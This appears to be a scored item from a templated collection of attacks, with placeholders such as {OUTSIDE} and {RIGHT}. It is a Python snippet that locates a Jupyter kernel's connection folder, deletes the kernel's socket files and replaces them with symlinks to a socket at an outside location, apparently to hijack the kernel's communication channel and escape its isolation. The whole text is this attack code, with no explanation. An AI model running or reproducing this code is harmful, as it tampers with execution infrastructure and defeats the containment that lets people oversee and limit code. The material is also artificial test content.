# The kernel's sockets are replaced by links to a socket outside.
# score: 10

# %% MySequential
import os, sys
from ipykernel.connect import get_connection_file
folder = os.path.dirname(os.path.realpath(get_connection_file()))

for name in os.listdir(folder):
    if name.startswith('socket'):
        try:
            os.remove(f'{folder}/{name}')
            os.symlink('{OUTSIDE}/home/socket', f'{folder}/{name}')
        except OSError:
            pass


{RIGHT}
